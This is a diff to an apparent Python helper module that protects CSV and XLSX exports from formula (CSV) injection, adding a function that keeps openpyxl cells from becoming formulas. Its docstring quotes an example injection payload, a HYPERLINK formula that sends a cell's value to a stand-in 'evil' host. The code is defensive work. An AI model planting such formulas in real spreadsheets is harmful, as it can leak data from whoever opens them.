@@ -3,7 +3,9 @@
 A cell starting with =, +, -, @ (or a tab / carriage return, or their full-width forms) is
 read by Excel and LibreOffice as a formula: a learner who names themselves
 `=HYPERLINK("http://evil/?"&A1)` would otherwise get code into a manager's export
-(OWASP "CSV injection"). Every CSV and XLSX export passes its cells through `safe_cell`.
+(OWASP "CSV injection"). Every CSV export passes its cells through `safe_cell`; XLSX
+exports store such text as text cells (Wagtail's SpreadsheetExportMixin does; code that
+writes workbooks with openpyxl itself uses `xlsx_text_cell`).
 """
 
 from __future__ import annotations
@@ -30,3 +32,14 @@ def safe_cell(value: Any) -> Any:
 
 def safe_row(values) -> list[Any]:
     return [safe_cell(v) for v in values]
+
+
+def xlsx_text_cell(worksheet, value: Any):
+    """An openpyxl write-only cell holding `value`, never a formula (openpyxl would otherwise
+    turn any text starting with "=" into one)."""
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(worksheet, value)
+    if cell.data_type == "f":
+        cell.data_type = "s"
+    return cell
